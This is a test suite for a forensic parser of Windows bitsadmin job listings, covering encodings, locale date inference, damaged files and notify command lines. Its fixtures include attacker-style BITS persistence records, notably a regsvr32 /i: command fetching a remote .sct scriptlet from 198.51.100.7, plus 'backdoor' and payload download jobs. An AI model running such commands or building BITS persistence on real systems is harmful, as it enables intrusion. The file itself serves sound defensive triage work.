import t from 'tap'
import {readFileSync} from 'node:fs'
import {join} from 'node:path'
import {bitsadminParser, parseBitsadminListing, sniffBitsadmin} from '../../src/parsers/bitsadmin/index.js'
import {detectEncoding} from '../../src/parsers/text/index.js'
import type {ParseIssue} from '../../src/model/issue.js'
import type {TriageEvent} from '../../src/model/event.js'
import {ASSUMED_UTC, ianaZone} from '../../src/model/time.js'

const SAMPLES = join(import.meta.dirname, '../../samples/bitsadmin')
const berlin = ianaZone('Europe/Berlin')

async function parseFile(name: string) {
  const path = join(SAMPLES, name)
  const issues: Omit<ParseIssue, 'path'>[] = []
  let records = 0
  const events: TriageEvent[] = []
  const ctx = {path, zone: berlin, issue: (i: Omit<ParseIssue, 'path'>) => issues.push(i), countRecords: (n = 1) => (records += n)}
  for await (const e of bitsadminParser.parse(path, ctx)) events.push(e)
  return {path, events, issues, records}
}

t.test('PowerShell ">" output: UTF-16LE with BOM, German dates, error fields, proxy override', async t => {
  const {path, events, issues, records} = await parseFile('verbose-utf16le-de.txt')
  t.equal(detectEncoding(readFileSync(path)).encoding, 'utf-16le')
  t.same(issues, [])
  t.equal(records, 2)
  const [wartung, edge] = events
  t.strictSame(wartung!.source, {path, kind: 'bitsadmin', line: 9, key: '{0B3C7A1E-5D2F-4E8A-9C41-2F6D8E0A1B7C}'})
  t.equal(wartung!.category, 'bits')
  t.equal(wartung!.action, 'bits-job-listed')
  // 31.03.2024 03:05:40 is already summer time in Berlin; 01:58:12 is still winter time.
  t.equal(wartung!.time, '2024-03-31T01:05:40Z')
  t.equal(wartung!.timeZoneBasis, 'source-tz')
  t.strictSame(wartung!.user, {domain: 'WS-BERLIN', name: 'jürgen'})
  t.strictSame(wartung!.bits, {
    id: '{0B3C7A1E-5D2F-4E8A-9C41-2F6D8E0A1B7C}',
    title: 'Wartung',
    type: 'DOWNLOAD',
    state: 'ERROR',
    owner: 'WS-BERLIN\\jürgen',
    priority: 'FOREGROUND',
    notifyFlags: '3',
    description: 'Wöchentliche Prüfung',
    errorContext: '0x00000005 - Der Fehler ist beim Verarbeiten der Remotedatei aufgetreten.',
    errorFile: 'https://cdn.example.org/wartung.ps1 -> C:\\ProgramData\\Wartung\\wartung.ps1',
    integrity: 'HIGH',
    proxyUsage: 'PRECONFIG',
    fileCount: 1,
    bytesTransferred: 0,
    retryDelaySeconds: 600,
    noProgressTimeoutSeconds: 1209600,
    errorCount: 4,
    errorCode: '0x80190194',
    hresult: '0x80190194',
    elevated: true,
    files: [{url: 'https://cdn.example.org/wartung.ps1', local: 'C:\\ProgramData\\Wartung\\wartung.ps1', bytesTransferred: 0, state: 'WORKING'}],
    created: '2024-03-31T00:58:12Z',
    modified: '2024-03-31T01:05:40Z',
  })
  t.equal(wartung!.data!['ERROR CODE'], '0x80190194 - HTTP-Status 404: Die angeforderte URL ist auf dem Server nicht vorhanden.')
  t.equal(wartung!.data!['NOTIFY INTERFACE'], 'UNREGISTERED')
  t.equal(wartung!.data!['COMPLETION TIME'], 'UNKNOWN')
  t.equal(wartung!.data!['ACL FLAGS'], '')
  t.equal(wartung!.data!['NOTIFICATION COMMAND LINE'], 'none')
  t.equal(wartung!.bits!.notifyCommandLine, undefined)

  t.equal(edge!.source.line, 27)
  t.equal(edge!.bits!.proxyList, 'proxy.corp.example:8080')
  t.equal(edge!.data!['PROXY BYPASS LIST'], '<local>')
  t.equal(edge!.bits!.completed, '2023-11-02T08:16:30Z')
  t.strictSame(edge!.bits!.files, [
    {
      url: 'http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/abc',
      local: 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\Download\\setup.exe',
      bytesTransferred: 1048576,
      bytesTotal: 1048576,
      state: 'TRANSFERRED',
    },
  ])
  t.strictSame(edge!.user, {domain: 'NT AUTHORITY', name: 'SYSTEM'})
  t.equal(edge!.bits!.elevated, false)
  t.equal(edge!.bits!.integrity, 'SYSTEM')
})

t.test('cmd ">" output in OEM code page 850 with ISO dates', async t => {
  const {path, events, issues} = await parseFile('verbose-oem850.txt')
  t.equal(detectEncoding(readFileSync(path)).encoding, 'cp850')
  t.same(issues, [])
  t.strictSame(events[0]!.bits, {
    id: '{C0FFEE00-1234-4321-ABCD-0123456789AB}',
    title: 'Atualização',
    type: 'UPLOAD',
    state: 'QUEUED',
    owner: 'SRV01\\João',
    priority: 'LOW',
    notifyFlags: '3',
    description: 'Relatório diário Á',
    integrity: 'MEDIUM',
    proxyUsage: 'NO_PROXY',
    fileCount: 1,
    bytesTransferred: 0,
    bytesTotal: 2048,
    retryDelaySeconds: 300,
    noProgressTimeoutSeconds: 86400,
    errorCount: 0,
    elevated: false,
    files: [{url: 'https://upload.example.net/in', local: 'C:\\Users\\João\\relatório.zip', bytesTransferred: 0, bytesTotal: 2048, state: 'WORKING'}],
    created: '2024-03-05T13:22:10Z',
    modified: '2024-03-05T13:25:41Z',
  })
  t.equal(events[0]!.data!['ACL FLAGS'], 'O G')
})

t.test('several jobs with notify command lines, US dates with AM/PM, an "Unable to" line', async t => {
  const {events, issues, records} = await parseFile('verbose-us-notify.txt')
  t.equal(records, 3)
  t.strictSame(issues, [{severity: 'error', line: 51, reason: 'bitsadmin reported: Unable to get the notification command line - 0x80070005'}])
  const [backdoor, hola, onedrive] = events
  t.strictSame(backdoor!.bits, {
    id: '{5B6C8C1F-2F1A-4D2B-9E8B-6B1E8B0C1D2E}',
    title: 'backdoor',
    type: 'DOWNLOAD',
    state: 'SUSPENDED',
    owner: 'WS01\\alice',
    priority: 'NORMAL',
    notifyFlags: '3',
    integrity: 'MEDIUM',
    proxyUsage: 'PRECONFIG',
    fileCount: 1,
    bytesTransferred: 0,
    retryDelaySeconds: 60,
    noProgressTimeoutSeconds: 1209600,
    errorCount: 0,
    elevated: false,
    notifyCommandLine: "'C:\\Windows\\system32\\cmd.exe' '/c notepad.exe'",
    notifyProgram: 'C:\\Windows\\system32\\cmd.exe',
    notifyParameters: '/c notepad.exe',
    files: [{url: 'C:\\Windows\\system32\\cmd.exe', local: 'C:\\Users\\alice\\AppData\\Local\\Temp\\cmd.exe', bytesTransferred: 0, state: 'WORKING'}],
    created: '2024-03-05T13:22:10Z',
    modified: '2024-03-05T13:25:41Z',
  })
  t.equal(
    backdoor!.message,
    "BITS job 'backdoor' {5B6C8C1F-2F1A-4D2B-9E8B-6B1E8B0C1D2E} SUSPENDED, owner WS01\\alice, 1 file(s), C:\\Windows\\system32\\cmd.exe -> C:\\Users\\alice\\AppData\\Local\\Temp\\cmd.exe; notify: 'C:\\Windows\\system32\\cmd.exe' '/c notepad.exe'",
  )
  t.equal(hola!.bits!.title, 'hola job', 'unquoted display name')
  t.equal(hola!.data!.DISPLAY, 'hola job')
  t.equal(hola!.bits!.notifyProgram, 'C:\\Windows\\System32\\regsvr32.exe')
  t.equal(hola!.bits!.notifyParameters, '/u /s /i:https://198.51.100.7/a.sct scrobj.dll')
  // 11:59:59 PM and 12:00:01 AM the next day.
  t.equal(hola!.bits!.created, '2023-12-17T22:59:59Z')
  t.equal(hola!.bits!.modified, '2023-12-17T23:00:01Z')
  t.equal(hola!.bits!.completed, '2023-12-17T23:00:01Z')
  t.equal(hola!.data!['CUSTOM HEADERS'], 'X-Session: 42; Accept: */*')
  t.equal(onedrive!.bits!.notifyCommandLine, undefined)
  t.equal(onedrive!.bits!.integrity, 'MEDIUM', 'fields after the "Unable to" line still read')
  t.equal(onedrive!.time, '2024-01-02T07:00:05Z')
  // Windows 10 peer-caching block, after a blank line, and CUSTOM HEADERS after another.
  t.equal(onedrive!.data!.peerDownload, 'false')
  t.equal(onedrive!.data!.peerServe, 'true')
  t.equal(onedrive!.data!['CUSTOM HEADERS'], 'NULL')
})

t.test('values wrapped at 80 columns, a multi-line description, UK day-first dates inferred from the file, LF', async t => {
  const {events, issues} = await parseFile('verbose-wrapped-uk.txt')
  t.same(issues, [])
  const b = events[0]!.bits!
  t.equal(b.title, 'Very long display name of a job that wraps at the console width')
  t.equal(b.description, 'first line of the description\nsecond line of the description')
  t.equal(b.notifyCommandLine, "'C:\\Program Files\\Common Files\\Updater Service\\svc.exe' 'svc.exe --mode persist --config C:\\ProgramData\\Updater\\cfg.json'")
  t.equal(b.notifyProgram, 'C:\\Program Files\\Common Files\\Updater Service\\svc.exe')
  t.equal(b.notifyParameters, 'svc.exe --mode persist --config C:\\ProgramData\\Updater\\cfg.json')
  t.strictSame(b.files, [
    {url: 'https://files.example.com/really/long/path/that/keeps/going/and/going/payload.bin', local: 'C:\\Users\\Public\\Libraries\\payload.bin', bytesTransferred: 512, bytesTotal: 2048, state: 'WORKING'},
    {url: 'https://files.example.com/b.bin', local: 'C:\\Users\\Public\\b.bin', bytesTransferred: 0, bytesTotal: 2048, state: 'WORKING'},
  ])
  // 05/01/2024 is 5 January because 17/01/2024 in the same file is day-first.
  t.equal(b.created, '2024-01-05T12:21:17Z')
  t.equal(b.modified, '2024-01-17T07:00:00Z')
  t.equal(b.state, 'TRANSIENT_ERROR')
  t.equal(b.retryDelaySeconds, 86400)
  t.equal(b.noProgressTimeoutSeconds, 7776000)
  t.equal(b.errorCount, 2)
  t.equal(b.elevated, true)
})

t.test('plain /list: quoted and unquoted names, counts', async t => {
  const {events, issues, records} = await parseFile('list-plain.txt')
  t.same(issues, [])
  t.equal(records, 3)
  t.strictSame(
    events.map(e => [e.source.line, e.bits]),
    [
      [6, {id: '{5B6C8C1F-2F1A-4D2B-9E8B-6B1E8B0C1D2E}', title: 'backdoor', state: 'SUSPENDED', fileCount: 1, bytesTransferred: 0}],
      [7, {id: '{9A8B7C6D-5E4F-4A3B-8C2D-1E0F9A8B7C6D}', title: 'hola job', state: 'TRANSFERRED', fileCount: 1, bytesTransferred: 2311, bytesTotal: 2311}],
      [8, {id: '{11111111-2222-4333-8444-555555555555}', title: "it''s quoted", state: 'ERROR', fileCount: 3, bytesTransferred: 0, bytesTotal: 77}],
    ],
  )
  t.equal(events[0]!.time, undefined)
})

t.test('/info with a date whose order nothing settles: raw text kept, issue says why', async t => {
  const {events, issues} = await parseFile('info-ambiguous-dates.txt')
  t.strictSame(issues, [
    {
      severity: 'warning',
      line: 9,
      reason: 'MODIFICATION TIME: ambiguous date "03/04/2024 13:05:00": day and month order unknown (no date in the file has a number above 12 and no time has AM/PM); kept as text',
    },
  ])
  const e = events[0]!
  t.equal(e.bits!.modified, undefined)
  t.equal(e.data!['MODIFICATION TIME'], '03/04/2024 13:05:00')
  t.equal(e.bits!.created, '2024-03-03T09:00:00Z', 'same day and month: no ambiguity')
  t.equal(e.time, '2024-03-03T09:00:00Z', 'falls back to the creation time')
  t.equal(e.bits!.notifyProgram, 'C:\\Users\\carol\\AppData\\Roaming\\run me.exe')
  t.equal(e.bits!.notifyParameters, '--quiet')
  t.equal(e.bits!.files, undefined)
})

t.test('damaged listing: every problem reported with its line, the rest read', async t => {
  const {events, issues, records} = await parseFile('damaged.txt')
  t.equal(records, 3)
  t.strictSame(issues, [
    {severity: 'warning', line: 6, reason: 'unrecognised line "Some stray text that is not bitsadmin output" ignored'},
    {severity: 'error', line: 20, reason: 'bitsadmin reported: Unable to find job {44444444-5555-4666-8777-888888888888} - 0x80200001'},
    {severity: 'warning', line: 21, reason: 'job fields without a GUID line before them (the listing may be cut): read as a job without id'},
    {severity: 'warning', line: 9, reason: 'FILES is not "n / m": "one / 1"'},
    {severity: 'warning', line: 12, reason: 'RETRY DELAY is not a number: "soon"'},
    {severity: 'warning', line: 15, reason: 'owner elevated ? is neither true nor false: "maybe"'},
    {severity: 'warning', line: 10, reason: 'CREATION TIME: unreadable date "13/13/2024 10:00:00"'},
    {severity: 'warning', line: 10, reason: 'MODIFICATION TIME: unreadable date "2024-02-30 10:00:00"'},
    {severity: 'warning', line: 17, reason: 'GUID "{not-a-guid}" is not a GUID'},
    {severity: 'warning', reason: 'the listing says "Listed 5 job(s)" but 3 job(s) were read'},
  ])
  t.strictSame(events[0]!.bits, {
    id: '{33333333-4444-4555-8666-777777777777}',
    title: 'damaged',
    type: 'DOWNLOAD',
    state: 'SUSPENDED',
    owner: 'PC\\dave',
    priority: 'NORMAL',
    bytesTransferred: 0,
    noProgressTimeoutSeconds: 1209600,
    errorCount: 0,
    files: [{url: 'http://203.0.113.9/x.exe', local: 'C:\\Users\\Public\\x.exe', bytesTransferred: 0, bytesTotal: 1, state: 'WORKING'}],
  })
  t.equal(events[0]!.time, undefined)
  t.strictSame(events[1]!.bits, {title: 'broken', type: 'DOWNLOAD', state: 'QUEUED'})
  t.equal(events[1]!.data!.GUID, '{not-a-guid}')
  t.strictSame(events[2]!.bits, {
    type: 'DOWNLOAD',
    state: 'SUSPENDED',
    owner: 'PC\\erin',
    notifyCommandLine: "'C:\\Windows\\system32\\cmd.exe' '/c calc.exe'",
    notifyProgram: 'C:\\Windows\\system32\\cmd.exe',
    notifyParameters: '/c calc.exe',
  })
  t.equal(events[2]!.source.key, undefined)
})

t.test('locale inference and zone handling in the text API', async t => {
  const job = (created: string) => `GUID: {22222222-3333-4444-8555-666666666666} DISPLAY: 'x'\nCREATION TIME: ${created} MODIFICATION TIME: UNKNOWN\n`
  const us = parseBitsadminListing(job('12/17/2002 1:21:17 PM'), {zone: ASSUMED_UTC})
  t.equal(us.jobs[0]!.facet.created, '2002-12-17T13:21:17Z')
  t.equal(us.jobs[0]!.time, '2002-12-17T13:21:17Z')
  const de = parseBitsadminListing(job('17.12.2002 13:21:17'), {zone: ASSUMED_UTC})
  t.equal(de.jobs[0]!.facet.created, '2002-12-17T13:21:17Z')
  const ampm = parseBitsadminListing(job('03/04/2024 1:05:00 AM'), {zone: ASSUMED_UTC})
  t.equal(ampm.jobs[0]!.facet.created, '2024-03-04T01:05:00Z', 'AM/PM means month first')
  const iso = parseBitsadminListing(job('2024-03-04 01:05:00.123'), {zone: ianaZone('+05:30')})
  t.equal(iso.jobs[0]!.facet.created, '2024-03-03T19:35:00.123Z')
  const mixed = parseBitsadminListing(job('13/01/2024 10:00:00') + job('01/13/2024 10:00:00') + job('02/03/2024 10:00:00'), {zone: ASSUMED_UTC})
  t.strictSame(
    mixed.jobs.map(j => j.facet.created),
    ['2024-01-13T10:00:00Z', '2024-01-13T10:00:00Z', undefined],
  )
  t.match(mixed.issues[0]!.reason, /the file has both day-first and month-first dates/)
  const twelve = parseBitsadminListing(job('1/1/2024 12:00:00 AM'), {zone: ASSUMED_UTC})
  t.equal(twelve.jobs[0]!.facet.created, '2024-01-01T00:00:00Z')
})

t.test('sniffing bitsadmin output in every encoding', async t => {
  t.equal(sniffBitsadmin(readFileSync(join(SAMPLES, 'verbose-utf16le-de.txt'))), 'bitsadmin output: "BITSADMIN version" banner')
  t.equal(sniffBitsadmin(readFileSync(join(SAMPLES, 'verbose-oem850.txt'))), 'bitsadmin output: "BITSADMIN version" banner')
  t.equal(sniffBitsadmin("GUID: {22222222-3333-4444-8555-666666666666} DISPLAY: 'x'\n"), 'bitsadmin verbose listing: "GUID: {...} DISPLAY:" line')
  t.equal(sniffBitsadmin("{5B6C8C1F-2F1A-4D2B-9E8B-6B1E8B0C1D2E} 'backdoor' SUSPENDED 0 / 1 0 / UNKNOWN\r\n"), 'bitsadmin /list line: "{GUID} \'name\' STATE n / m bytes / total"')
  t.equal(sniffBitsadmin(Buffer.from('Listed 0 job(s).\r\n', 'utf16le')), 'bitsadmin output: "Listed N job(s)."')
  t.equal(sniffBitsadmin('Windows Registry Editor Version 5.00\r\n'), null)
})

t.test('labels from other bitsadmin versions, pathological lines', async t => {
  const text = [
    "GUID: {22222222-3333-4444-8555-666666666666} DISPLAY: 'x'",
    'owner elevated ?          false',
    'PEER CACHING FLAGS: 0x1',
    'HTTP SECURITY FLAGS: 0x0',
  ].join('\r\n')
  const r = parseBitsadminListing(text, {zone: ASSUMED_UTC})
  t.same(r.issues, [])
  t.equal(r.jobs[0]!.facet.elevated, false)
  t.equal(r.jobs[0]!.data['PEER CACHING FLAGS'], '0x1')
  t.equal(r.jobs[0]!.data['HTTP SECURITY FLAGS'], '0x0')

  const start = Date.now()
  const long = `{22222222-3333-4444-8555-666666666666} ${'A '.repeat(200000)}`
  const slow = parseBitsadminListing(`${long}\n${'GUID: '.repeat(100000)}\n`, {zone: ASSUMED_UTC})
  t.ok(Date.now() - start < 2000, 'long lines are read in linear time')
  t.equal(slow.issues[0]!.line, 1)
})

t.test('notify command lines', async t => {
  const {splitNotifyCommandLine} = await import('../../src/parsers/bitsadmin/index.js')
  t.equal(splitNotifyCommandLine('none'), undefined)
  t.equal(splitNotifyCommandLine('NULL'), undefined)
  t.strictSame(splitNotifyCommandLine("'C:\\x.exe' 'NULL'"), {program: 'C:\\x.exe'})
  t.strictSame(splitNotifyCommandLine("'C:\\x.exe'"), {program: 'C:\\x.exe'})
  t.strictSame(splitNotifyCommandLine("'C:\\Windows\\system32\\cmd.exe' 'cmd.exe /c echo 'hi''"), {program: 'C:\\Windows\\system32\\cmd.exe', parameters: "cmd.exe /c echo 'hi'"})
  t.strictSame(splitNotifyCommandLine('"C:\\Program Files\\a b\\c.exe" -x'), {program: 'C:\\Program Files\\a b\\c.exe', parameters: '-x'})
  t.strictSame(splitNotifyCommandLine('C:\\Program Files\\a b\\c.exe -x y'), {program: 'C:\\Program Files\\a b\\c.exe', parameters: '-x y'})
  t.strictSame(splitNotifyCommandLine('%COMSPEC% /c calc'), {program: '%COMSPEC%', parameters: '/c calc'})
  t.strictSame(splitNotifyCommandLine('notepad'), {program: 'notepad'})
})
